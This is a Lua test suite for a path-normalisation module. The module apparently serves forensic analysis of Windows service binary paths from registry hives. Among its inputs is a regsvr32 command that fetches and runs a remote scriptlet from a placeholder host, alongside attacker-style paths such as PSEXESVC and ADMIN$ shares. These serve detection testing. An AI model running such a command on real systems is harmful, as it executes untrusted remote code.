-- Specs for hh.paths: every spelling of a service binary path seen in real
-- hives or used by attackers must reach one canonical form.
local paths = require "hh.paths"

describe("hh.paths.split_command", function()
  local function split(s) return { paths.split_command(s) } end

  it("splits a quoted program from its arguments", function()
    assert.same({ [[C:\Program Files\NVIDIA Corporation\Display.NvContainer\NVDisplay.Container.exe]],
                  [[-s NVDisplay.ContainerLocalSystem -f "C:\ProgramData\NVIDIA\x.log"]] },
      split([["C:\Program Files\NVIDIA Corporation\Display.NvContainer\NVDisplay.Container.exe" -s NVDisplay.ContainerLocalSystem -f "C:\ProgramData\NVIDIA\x.log"]]))
  end)

  it("takes the rest of the line when a quote is never closed", function()
    assert.same({ [[C:\Program Files\x.exe -a]], "" }, split([["C:\Program Files\x.exe -a]]))
  end)

  it("returns empty arguments for a lone quoted program", function()
    assert.same({ [[C:\a b\c.exe]], "" }, split([["C:\a b\c.exe"]]))
  end)

  it("resolves unquoted paths with spaces at the first executable extension", function()
    assert.same({ [[C:\Program Files\My App\svc.exe]], "-run now" },
      split([[C:\Program Files\My App\svc.exe -run now]]))
    assert.same({ [[C:\Program Files\My App\svc.exe]], "" },
      split([[C:\Program Files\My App\svc.exe]]))
  end)

  it("recognises the extensions CreateProcess and the kernel accept", function()
    for _, ext in ipairs { "exe", "SYS", "dll", "com", "bat", "cmd", "ps1", "vbs", "js", "hta" } do
      assert.same({ [[C:\dir x\f.]] .. ext, "a b" }, split([[C:\dir x\f.]] .. ext .. " a b"))
    end
  end)

  it("splits svchost -k lines", function()
    assert.same({ [[%SystemRoot%\system32\svchost.exe]], "-k netsvcs -p" },
      split([[%SystemRoot%\system32\svchost.exe -k netsvcs -p]]))
  end)

  it("splits rundll32 lines", function()
    assert.same({ [[rundll32.exe]], [[C:\x\y.dll,Entry]] }, split([[rundll32.exe C:\x\y.dll,Entry]]))
  end)

  it("keeps a \\??\\ prefix with the program", function()
    assert.same({ [[\??\C:\Windows\system32\drivers\x.sys]], "" },
      split([[\??\C:\Windows\system32\drivers\x.sys]]))
    assert.same({ [[\??\C:\a b\x.exe]], "-z" }, split([[\??\"C:\a b\x.exe" -z]]))
  end)

  it("takes a bare first word as the program (search path)", function()
    assert.same({ "regsvr32", [[/s /u /i:http://x/a.sct scrobj.dll]] }, split([[regsvr32 /s /u /i:http://x/a.sct scrobj.dll]]))
    assert.same({ "cmd", [[/c C:\x y\a.exe]] }, split([[cmd /c C:\x y\a.exe]]))
    assert.same({ "%COMSPEC%", [[/b /c start x.exe]] }, split([[%COMSPEC% /b /c start x.exe]]))
  end)

  it("ends an extensionless program part at the first switch", function()
    assert.same({ [[C:\Program Files\V\tool]], [[-k C:\x\y.dll]] }, split([[C:\Program Files\V\tool -k C:\x\y.dll]]))
    assert.same({ [[C:\Program Files\V\tool]], [[/run x.dll]] }, split([[C:\Program Files\V\tool /run x.dll]]))
  end)

  it("falls back to the first token without an extension", function()
    assert.same({ [[%SystemRoot%\system32\svchost]], "-k x" }, split([[%SystemRoot%\system32\svchost -k x]]))
  end)

  it("keeps COM+ dllhost arguments as arguments", function()
    assert.same({ [[%SystemRoot%\system32\dllhost.exe]], "/Processid:{02D4B3F1-FD88-11D1-960D-00805FC79235}" },
      split([[%SystemRoot%\system32\dllhost.exe /Processid:{02D4B3F1-FD88-11D1-960D-00805FC79235}]]))
  end)

  it("keeps runs of spaces inside the arguments", function()
    assert.same({ [[C:\x\a.exe]], "-k  two   spaces" }, split("C:\\x\\a.exe   -k  two   spaces  "))
    assert.same({ [[C:\x\tool]], "-k" }, split("C:\\x\\tool    -k"))
  end)

  it("answers nil for nil and blank input", function()
    assert.same({}, split(nil))
    assert.is_nil(paths.split_command("   "))
  end)
end)

describe("hh.paths.normalize", function()
  local n = paths.normalize
  local cases = {
    -- environment variables
    { [[%SystemRoot%\System32\svchost.exe]], [[c:\windows\system32\svchost.exe]] },
    { [[%systemroot%\system32\x.dll]], [[c:\windows\system32\x.dll]] },
    { [[%windir%\PCHealth\HelpCtr\Binaries\pchsvc.dll]], [[c:\windows\pchealth\helpctr\binaries\pchsvc.dll]] },
    { [[%SystemDrive%\x\y.exe]], [[c:\x\y.exe]] },
    { [[%ProgramFiles%\Windows Defender\mpsvc.dll]], [[c:\program files\windows defender\mpsvc.dll]] },
    { [[%ProgramFiles(x86)%\Google\Update\GoogleUpdate.exe]], [[c:\program files (x86)\google\update\googleupdate.exe]] },
    { [[%ProgramW6432%\a.exe]], [[c:\program files\a.exe]] },
    { [[%CommonProgramFiles%\Microsoft Shared\ClickToRun\OfficeClickToRun.exe]],
      [[c:\program files\common files\microsoft shared\clicktorun\officeclicktorun.exe]] },
    { [[%CommonProgramFiles(x86)%\a.exe]], [[c:\program files (x86)\common files\a.exe]] },
    { [[%ProgramData%\Microsoft\Windows Defender\Platform\4.12\MsMpEng.exe]],
      [[c:\programdata\microsoft\windows defender\platform\4.12\msmpeng.exe]] },
    { [[%ALLUSERSPROFILE%\x.exe]], [[c:\programdata\x.exe]] },
    { [[%APPDATA%\x.exe]], [[c:\users\<user>\appdata\roaming\x.exe]] },
    { [[%LOCALAPPDATA%\Temp\x.exe]], [[c:\users\<user>\appdata\local\temp\x.exe]] },
    { [[%USERPROFILE%\Downloads\x.exe]], [[c:\users\<user>\downloads\x.exe]] },
    { [[%HOMEDRIVE%%HOMEPATH%\x.exe]], [[c:\users\<user>\x.exe]] },
    { [[%PUBLIC%\x.exe]], [[c:\users\public\x.exe]] },
    { [[%TEMP%\x.exe]], [[c:\windows\temp\x.exe]] },
    { [[%TMP%\x.exe]], [[c:\windows\temp\x.exe]] },
    { [[%COMSPEC%]], [[c:\windows\system32\cmd.exe]] },
    { [[%ComSpec%]], [[c:\windows\system32\cmd.exe]] },
    { [[%UnknownVar%\X.exe]], [[c:\windows\%unknownvar%\x.exe]] },
    { [[C:\%FOO%\X.exe]], [[c:\%foo%\x.exe]] },
    -- kernel spellings
    { [[\SystemRoot\System32\drivers\afd.sys]], [[c:\windows\system32\drivers\afd.sys]] },
    { [[\systemroot\system32\DRIVERS\x.sys]], [[c:\windows\system32\drivers\x.sys]] },
    { [[System32\DRIVERS\atapi.sys]], [[c:\windows\system32\drivers\atapi.sys]] },
    { [[system32\drivers\ACPI.sys]], [[c:\windows\system32\drivers\acpi.sys]] },
    { [[System32\CLFS.sys]], [[c:\windows\system32\clfs.sys]] },
    { [[\??\C:\Windows\system32\drivers\x.sys]], [[c:\windows\system32\drivers\x.sys]] },
    { [[\\?\C:\Windows\x.exe]], [[c:\windows\x.exe]] },
    { [[\\.\C:\Windows\x.exe]], [[c:\windows\x.exe]] },
    { [[\DosDevices\C:\x.sys]], [[c:\x.sys]] },
    { [[\GLOBAL??\C:\x.sys]], [[c:\x.sys]] },
    { [[\??\UNC\srv\share\x.exe]], [[\\srv\share\x.exe]] },
    { [[\\srv\share\x.exe]], [[\\srv\share\x.exe]] },
    { [[\\127.0.0.1\ADMIN$\a1b2c3.exe]], [[c:\windows\a1b2c3.exe]] },
    { [[\\localhost\C$\Windows\Temp\x.exe]], [[c:\windows\temp\x.exe]] },
    { [[\\10.0.0.5\ADMIN$\x.exe]], [[\\10.0.0.5\admin$\x.exe]] },
    { [[\Windows\System32\x.exe]], [[c:\windows\system32\x.exe]] },
    -- kernel device paths keep their namespace (no drive letter to map to)
    { [[\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\x.exe]],
      [[\device\harddiskvolumeshadowcopy1\windows\x.exe]] },
    { [[\Device\HarddiskVolume2\Windows\System32\..\..\..\x.sys]], [[\device\harddiskvolume2\x.sys]] },
    { [[\??\GLOBALROOT\Device\Mup\srv\x.exe]], [[\device\mup\srv\x.exe]] },
    -- separators, dots, case, quotes
    { [[C:/Windows/System32/x.exe]], [[c:\windows\system32\x.exe]] },
    { [[C:\Windows\\System32\\\x.exe]], [[c:\windows\system32\x.exe]] },
    { [[C:\Windows\System32\..\Temp\x.exe]], [[c:\windows\temp\x.exe]] },
    { [[C:\Windows\.\System32\.\x.exe]], [[c:\windows\system32\x.exe]] },
    { [[C:\..\..\x.exe]], [[c:\x.exe]] },
    { [[%SystemRoot%\System32\..\..\Users\Bob\x.exe]], [[c:\users\bob\x.exe]] },
    { [[\\srv\share\..\..\x.exe]], [[\\srv\share\x.exe]] },
    { [[C:\WINDOWS\SYSTEM32\X.EXE]], [[c:\windows\system32\x.exe]] },
    { [["C:\Program Files\x.exe"]], [[c:\program files\x.exe]] },
    { [[  C:\x.exe  ]], [[c:\x.exe]] },
    { [[C:\Windows\evil.exe.]], [[c:\windows\evil.exe]] },
    { [[C:\Windows\System32 \x.exe]], [[c:\windows\system32\x.exe]] },
    { [[D:\Tools\x.exe]], [[d:\tools\x.exe]] },
    -- 8.3 short names
    { [[C:\PROGRA~1\Vendor\svc.exe]], [[c:\program files\vendor\svc.exe]] },
    { [[C:\PROGRA~2\Vendor\svc.exe]], [[c:\program files (x86)\vendor\svc.exe]] },
    { [[C:\PROGRA~3\x.exe]], [[c:\programdata\x.exe]] },
    { [[C:\DOCUME~1\bob\LOCALS~1\Temp\x.exe]], [[c:\documents and settings\bob\local settings\temp\x.exe]] },
    { [[C:\DOCUME~1\bob\APPLIC~1\x.exe]], [[c:\documents and settings\bob\application data\x.exe]] },
    { [[C:\DOCUME~1\bob\LOCALS~1\APPLIC~1\x.exe]], [[c:\documents and settings\bob\local settings\application data\x.exe]] },
    { [[C:\PROGRA~1\COMMON~1\x.exe]], [[c:\program files\common files\x.exe]] },
    { [[C:\Users\ADMINI~1\AppData\x.exe]], [[c:\users\admini~1\appdata\x.exe]] },
    -- a short name only means something under its parent
    { [[C:\Vendor\PROGRA~1\x.exe]], [[c:\vendor\progra~1\x.exe]] },
  }
  for _, c in ipairs(cases) do
    it(c[1], function() assert.equal(c[2], n(c[1])) end)
  end

  it("resolves bare file names in bare_dir when given", function()
    assert.equal([[c:\windows\system32\winhttp.dll]], n("winhttp.dll", paths.SYSTEM32))
    assert.equal([[c:\windows\winhttp.dll]], n("winhttp.dll"))
    assert.equal([[c:\windows\system32\cmd.exe]], n("%ComSpec%", paths.WINDOWS))
    assert.equal([[c:\windows\system32\drivers\x.sys]], n([[system32\drivers\x.sys]], [[c:\elsewhere]]))
    assert.equal([[c:\windows\system32\f-response-ent.exe]], paths.binary("f-response-ent.exe", paths.SYSTEM32))
  end)

  it("answers nil for nil and blank input", function()
    assert.is_nil(n(nil))
    assert.is_nil(n(""))
    assert.is_nil(n('""'))
  end)
end)

describe("hh.paths.binary", function()
  it("normalises the program of a command line", function()
    assert.equal([[c:\windows\system32\svchost.exe]], paths.binary([[%SystemRoot%\system32\svchost.exe -k netsvcs]]))
    assert.equal([[c:\windows\system32\rundll32.exe]], paths.binary([[%windir%\system32\rundll32.exe C:\Users\x\a.dll,Go]]))
    assert.equal([[c:\windows\psexesvc.exe]], paths.binary([[%SystemRoot%\PSEXESVC.EXE]]))
  end)

  it("judges the program, not the arguments", function()
    assert.equal([[c:\program files\vendor\svc.exe]],
      paths.binary([["C:\Program Files\Vendor\svc.exe" -log C:\Windows\Temp\v.log -cache %TEMP%]]))
    assert.equal([[c:\program files\vendor\svc.exe]],
      paths.binary([[C:\Program Files\Vendor\svc.exe --tmp C:\Users\Public\x]]))
  end)

  it("answers nil for a missing ImagePath", function()
    assert.is_nil(paths.binary(nil))
  end)
end)

describe("hh.paths helpers", function()
  it("dir and basename", function()
    assert.equal([[c:\windows\system32]], paths.dir([[c:\windows\system32\x.dll]]))
    assert.equal([[c:\]], paths.dir([[c:\x.exe]]))
    assert.equal("x.dll", paths.basename([[c:\windows\system32\x.dll]]))
    assert.is_nil(paths.dir("x.dll"))
    assert.equal("dll", paths.extension([[c:\a.b\x.DLL]]))
    assert.is_nil(paths.extension([[c:\a.b\x]]))
  end)

  it("under compares whole components", function()
    assert.is_true(paths.under([[c:\windows\system32\x.dll]], [[c:\windows\system32]]))
    assert.is_true(paths.under([[c:\windows\system32\x.dll]], [[%SystemRoot%\System32\]]))
    assert.is_true(paths.under([[c:\windows\system32]], [[c:\windows\system32]]))
    assert.is_false(paths.under([[c:\windows\system32x\x.dll]], [[c:\windows\system32]]))
    assert.is_false(paths.under([[c:\windows]], [[c:\windows\system32]]))
    assert.is_false(paths.under(nil, [[c:\windows]]))
  end)

  it("is_under does the same on canonical strings", function()
    assert.is_true(paths.is_under([[c:\windows\system32\x.dll]], [[c:\windows\system32]]))
    assert.is_true(paths.is_under([[c:\windows\system32]], [[c:\windows\system32]]))
    assert.is_true(paths.is_under([[c:\x.exe]], [[c:\]]))
    assert.is_false(paths.is_under([[c:\windows\system32x\x.dll]], [[c:\windows\system32]]))
    assert.is_false(paths.is_under([[c:\windows]], [[c:\windows\system32]]))
    assert.is_false(paths.is_under(nil, [[c:\windows]]))
  end)

  it("directly_in wants the parent itself", function()
    assert.is_true(paths.directly_in([[c:\windows\x.exe]], [[c:\windows]]))
    assert.is_false(paths.directly_in([[c:\windows\system32\x.exe]], [[c:\windows]]))
  end)

  it("parses svchost arguments", function()
    assert.same({ group = "netsvcs", p = true }, paths.svchost_args("-k netsvcs -p"))
    assert.same({ group = "LocalServiceNetworkRestricted", p = false, s = "Dhcp" },
      paths.svchost_args("-k LocalServiceNetworkRestricted -s Dhcp"))
    assert.is_nil(paths.svchost_args("-s foo"))
    assert.is_nil(paths.svchost_args(nil))
  end)

  it("finds rundll32's DLL and entry point", function()
    assert.same({ [[C:\x\y.dll]], "Entry" }, { paths.rundll32_target([[C:\x\y.dll,Entry]]) })
    assert.same({ [[C:\a b\y.dll]], "Go" }, { paths.rundll32_target([["C:\a b\y.dll",Go arg]]) })
    assert.same({ [[C:\a b\y.dll]], "Go" }, { paths.rundll32_target([[C:\a b\y.dll, Go]]) })
    assert.same({ [[y.dll]] }, { paths.rundll32_target([[y.dll]]) })
  end)
end)
